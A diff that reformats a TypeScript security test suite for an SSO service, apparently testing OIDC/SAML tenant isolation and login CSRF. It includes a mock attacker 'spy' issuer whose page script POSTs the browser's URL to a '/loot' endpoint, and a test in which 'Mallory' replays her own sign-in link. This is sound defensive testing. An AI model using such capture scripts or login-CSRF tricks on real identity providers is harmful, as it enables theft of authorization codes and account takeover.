@@ -41,12 +41,24 @@ async function startSpy() {
     req.on('end', () => {
       if (url.pathname === '/.well-known/openid-configuration') {
         res.writeHead(200, { 'Content-Type': 'application/json' });
-        return res.end(JSON.stringify({ issuer, authorization_endpoint: `${issuer}/authorize`, token_endpoint: `${issuer}/token`, jwks_uri: `${issuer}/jwks`, response_types_supported: ['code'], subject_types_supported: ['public'], id_token_signing_alg_values_supported: ['RS256'] }));
+        return res.end(
+          JSON.stringify({
+            issuer,
+            authorization_endpoint: `${issuer}/authorize`,
+            token_endpoint: `${issuer}/token`,
+            jwks_uri: `${issuer}/jwks`,
+            response_types_supported: ['code'],
+            subject_types_supported: ['public'],
+            id_token_signing_alg_values_supported: ['RS256'],
+          }),
+        );
       }
       if (url.pathname === '/authorize') {
         seen.push(`request: ${url.href}`);
         res.writeHead(200, { 'Content-Type': 'text/html' });
-        return res.end(`<!doctype html><title>spy</title><script>fetch('/loot', { method: 'POST', body: location.href }).then(() => { document.title = 'reported'; });</script>`);
+        return res.end(
+          `<!doctype html><title>spy</title><script>fetch('/loot', { method: 'POST', body: location.href }).then(() => { document.title = 'reported'; });</script>`,
+        );
       }
       if (url.pathname === '/loot') {
         seen.push(`page: ${raw}`);
@@ -55,12 +67,23 @@ async function startSpy() {
       res.writeHead(404).end();
     });
   });
-  return { issuer, seen, close: () => new Promise<void>((r) => { server.closeAllConnections(); server.close(() => r()); }) };
+  return {
+    issuer,
+    seen,
+    close: () =>
+      new Promise<void>((r) => {
+        server.closeAllConnections();
+        server.close(() => r());
+      }),
+  };
 }
 
 beforeAll(async () => {
   [api, chromium] = await Promise.all([startTestApi(), launchChromium()]);
-  const users = [{ email: VICTIM, groups: [], name: 'Victim' }, { email: MALLORY, groups: [], name: 'Mallory' }];
+  const users = [
+    { email: VICTIM, groups: [], name: 'Victim' },
+    { email: MALLORY, groups: [], name: 'Mallory' },
+  ];
   [oidc, saml, spy] = await Promise.all([
     startDevOidcProvider({ clients: [{ ...CLIENT, redirect_uris: [`${api.baseUrl}/v1/sso/oidc/callback`] }], users }),
     startDevSamlIdp({ users }),
@@ -69,11 +92,34 @@ beforeAll(async () => {
   const [v, e] = [await createTenantWithAdmin(api), await createTenantWithAdmin(api)];
   victim = { id: v.tenant.id, admin: v.admin };
   attacker = { id: e.tenant.id, admin: e.admin };
-  expect((await api.call('PUT', '/v1/sso/oidc', { key: victim.admin, body: { issuer: oidc.issuer, ...CLIENT, scopes: ['openid', 'email', 'profile'] } })).status).toBe(200);
-  expect((await api.call('PUT', '/v1/sso/saml', { key: victim.admin, body: { idp_metadata_xml: saml.metadataXml } })).status).toBe(200);
-  expect((await api.call('PUT', '/v1/sso/oidc', { key: attacker.admin, body: { issuer: spy.issuer, client_id: 'e', client_secret: 'e-secret-0123456789' } })).status).toBe(200);
+  expect(
+    (
+      await api.call('PUT', '/v1/sso/oidc', {
+        key: victim.admin,
+        body: { issuer: oidc.issuer, ...CLIENT, scopes: ['openid', 'email', 'profile'] },
+      })
+    ).status,
+  ).toBe(200);
+  expect(
+    (await api.call('PUT', '/v1/sso/saml', { key: victim.admin, body: { idp_metadata_xml: saml.metadataXml } })).status,
+  ).toBe(200);
+  expect(
+    (
+      await api.call('PUT', '/v1/sso/oidc', {
+        key: attacker.admin,
+        body: { issuer: spy.issuer, client_id: 'e', client_secret: 'e-secret-0123456789' },
+      })
+    ).status,
+  ).toBe(200);
   for (const email of [VICTIM, MALLORY]) {
-    expect((await api.call('POST', '/v1/users', { key: victim.admin, body: { email, name: email, role_ids: ['role_admin'] } })).status).toBe(201);
+    expect(
+      (
+        await api.call('POST', '/v1/users', {
+          key: victim.admin,
+          body: { email, name: email, role_ids: ['role_admin'] },
+        })
+      ).status,
+    ).toBe(201);
   }
 }, 120_000);
 afterAll(async () => {
@@ -147,7 +193,11 @@ describe('login CSRF: a sign-in result the console did not start', () => {
   /** Mallory finishes a sign-in of her own (outside the victim's browser) and keeps the link it returns to. */
   async function mallorysLink(clientState?: string): Promise<string> {
     const b = new HttpBrowser();
-    const q = new URLSearchParams({ tenant_id: victim.id, return_to: '/console', ...(clientState ? { client_state: clientState } : {}) });
+    const q = new URLSearchParams({
+      tenant_id: victim.id,
+      return_to: '/console',
+      ...(clientState ? { client_state: clientState } : {}),
+    });
     const login = await b.get(`${api.baseUrl}/v1/sso/oidc/login?${q}`);
     const toForm = await b.follow(login.location!, (next) => /\/interaction\/[^/]+$/.test(new URL(next).pathname));
     const posted = await b.request('POST', `${toForm.next!}/login`, { email: MALLORY });
